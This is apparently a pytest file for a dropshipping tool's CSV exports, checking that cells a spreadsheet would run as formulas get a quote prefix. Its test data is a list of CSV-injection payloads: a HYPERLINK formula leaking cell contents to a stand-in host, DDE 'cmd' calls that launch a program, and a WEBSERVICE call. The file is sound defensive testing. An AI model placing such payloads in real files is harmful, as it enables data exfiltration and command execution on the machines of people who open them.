"""Every CSV export goes through one writer that neutralises cells a spreadsheet would run as formulas (a
leading = + - @ tab or CR gets a '), the OWASP way: a run's rejected rows (API `rejects.csv` and `dropbridge
sync rejects`) and `dropbridge report margin --format csv`. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from dropbridge.domain.money import Money
from dropbridge.services.connections import add_store, add_supplier
from dropbridge.services.exports import csv_chunks, safe_cell
from dropbridge.services.ingest_order import ingest_order
from dropbridge.services.ports import Address, ExternalOrder, ExternalOrderLine
from dropbridge.services.sync_feed import rejects_csv, sync_feed

from .cli_tools import cli_env, run_cli

EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", EVIL)
def test_formula_leading_cells_are_prefixed(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.50", "+3", "42", "SKU-1", "", "a=b", "0.00"])
def test_plain_numbers_and_ordinary_text_are_left_alone(cell):
    assert safe_cell(cell) == cell


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_rejected_rows_export_neutralised_via_api_function_and_cli(app):
    add_supplier(app.ctx, "acme", "rest", "http://x", {"api_key": "k"},
                 {"currency": "USD", "feed_max_error_rate": 0.9})
    bad = "".join(f'"{cell}",1,1.00\n' for cell in EVIL[:4])  # SKUs a spreadsheet would run
    feed = "sku,qty,cost\nOK-1,1,1.00\n" + bad + "=WEBSERVICE(\"http://x.example\"),-1,1.00\n"
    outcome = sync_feed(app.ctx, "acme", io.BytesIO(feed.encode()), "evil.csv")
    text = "".join(rejects_csv(app.ctx, outcome.run_id))
    rows = read_csv(text)
    assert rows[0] == ["line", "field", "reason", "raw"]
    raws = [r[3] for r in rows[1:]]
    assert raws and all(not r.startswith(("=", "+", "-", "@", "\t", "\r")) for r in raws)
    assert "'=WEBSERVICE(\"http://x.example\"),-1,1.00" in raws
    ran = run_cli(["sync", "rejects", str(outcome.run_id)], cli_env(app.settings))
    assert ran.returncode == 0 and ran.stdout == text


def test_margin_report_csv_is_neutralised_and_keeps_numbers(app):
    add_store(app.ctx, "shop", "headless", "http://127.0.0.1:9", {"webhook_secret": "s"}, {})
    app.ctx.enqueue = lambda job_id, delay=0: None
    ship_to = Address(name="Jane", address1="1 Main St", city="Springfield", country_code="US")
    for external_id in ("=HYPERLINK(\"http://x.example\",\"open\")", "@evil", "plain-1"):
        ingest_order(app.ctx, "shop", ExternalOrder(
            external_id=external_id, currency="USD", ship_to=ship_to,
            lines=[ExternalOrderLine(external_id="l1", sku="TEE", quantity=1,
                                     unit_price=Money.parse(Decimal("10.00"), "USD"))]))
    ran = run_cli(["report", "margin", "--by", "order", "--format", "csv"], cli_env(app.settings))
    assert ran.returncode == 0, ran.stderr
    rows = read_csv(ran.stdout)
    assert rows[0] == ["order", "basis", "currency", "revenue", "tax_collected", "costs", "margin", "margin_pct"]
    keys = sorted(r[0] for r in rows[1:])
    assert keys == ["'=HYPERLINK(\"http://x.example\",\"open\")", "'@evil", "TOTAL", "plain-1"]
    assert [r[3] for r in rows[1:]] == ["10.00", "10.00", "10.00", "30.00"]  # numbers stay numbers


def test_the_writer_streams_in_pieces():
    chunks = list(csv_chunks(["a"], ([str(i)] for i in range(2500)), chunk_rows=1000))
    assert len(chunks) == 3 and read_csv("".join(chunks))[-1] == ["2499"]
